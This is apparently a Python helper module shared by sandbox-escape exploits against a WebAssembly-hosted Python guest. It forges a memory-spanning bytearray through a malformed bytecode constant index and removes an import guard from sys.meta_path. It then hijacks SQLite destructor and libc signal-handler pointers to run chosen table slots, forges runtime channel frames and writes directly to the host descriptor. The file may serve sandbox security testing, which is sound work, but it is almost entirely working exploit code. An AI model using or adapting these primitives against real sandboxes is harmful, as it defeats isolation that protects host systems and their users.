"""The common beginning of every attack: forged memory, and the names of the targets.

FACTS is put before it: canary, folder, marker, port, pid, argument.
"""

import opcode
import struct
import sys
import types


def forge():
    """The whole linear memory as one bytearray: a code object whose constant index points at a forged object."""
    ops = opcode.opmap
    fake = struct.pack("<IIIIIII", 0x3FFFFFFF, id(bytearray), 0x7FFFFFFF, 0x7FFFFFFF, 0, 0, 0)
    pointer = struct.pack("<I", id(fake) + 16)

    def plain():
        return None

    code = plain.__code__.replace(co_consts=("zzq",))
    base = id(code.co_consts) + 16
    index = ((id(pointer) + 16 - base) & 0xFFFFFFFF) >> 2
    extended = []
    for shift in (24, 16, 8):
        extended += [ops["EXTENDED_ARG"], (index >> shift) & 255]
    body = bytes([ops["RESUME"], 0, *extended, ops["LOAD_CONST"], index & 255, ops["RETURN_VALUE"], 0])
    read = types.FunctionType(code.replace(co_code=body, co_consts=code.co_consts), {})
    return read(), fake, pointer, read


def unhide():
    """Guards inside Python are not a wall: code in here can put back anything they removed."""
    sys.meta_path[:] = [finder for finder in sys.meta_path if getattr(finder, "__name__", "") != "Finder"]


def word(memory, at):
    return struct.unpack_from("<I", memory, at)[0]


def put(memory, at, value):
    struct.pack_into("<I", memory, at, value & 0xFFFFFFFF)


def find_all(memory, value, top):
    pattern = struct.pack("<I", value)
    found = []
    at = memory.find(pattern, 0, top)
    while at >= 0:
        if at % 4 == 0:
            found.append(at)
        at = memory.find(pattern, at + 1, top)
    return found


#: Bytes of linear memory that are certainly there.
MEMORY = 36 * 1024 * 1024
r = None


LINE = b'{"jsonrpc":"2.0","id":1,"result":"forged by the guest"}\x00'


def call_table_slot(slot):
    """Has SQLite call a table slot with our text: the destructor of a user function's data."""
    import sqlite3

    memory, *keep = forge()

    def callback(x):
        return x

    connection = sqlite3.connect(":memory:")
    connection.create_function("zzf", 1, callback)
    top = MEMORY
    hits = []
    for place in find_all(memory, id(callback), top):
        for record in find_all(memory, place, top):
            count, destructor = word(memory, record - 8), word(memory, record - 4)
            if count == 1 and 0 < destructor < 14200:
                hits.append(record)
    for record in hits:
        put(memory, record - 4, slot)
        put(memory, record, id(LINE) + 16)
    connection.create_function("zzf", 1, None)
    return keep


def call_as_handler(slot):
    """Has libc call a table slot as the handler of a signal; the argument, a small number, is an address."""
    import signal

    memory, *keep = forge()
    number = signal.SIGUSR1
    signal.signal(number, lambda *_: None)
    # libc keeps struct sigaction, 140 bytes, per signal.
    put(memory, FACTS["actions"] + 140 * number, slot)
    saved = bytes(memory[number : number + len(LINE)])
    memory[number : number + len(LINE)] = LINE
    signal.raise_signal(number)
    memory[number : number + len(saved)] = saved
    return keep


def frame(kind, header, body=b""):
    """A frame of the channel, as only the runtime should make them."""
    import json

    head = json.dumps(header).encode()
    return struct.pack("<IBII", 9 + len(head) + len(body), kind, 0, len(head)) + head + body


def os_write(data):
    """Straight to `/dev/host`, past the guest's package."""
    import os

    return os.write(3, data)


def crash():
    import os

    os.abort()
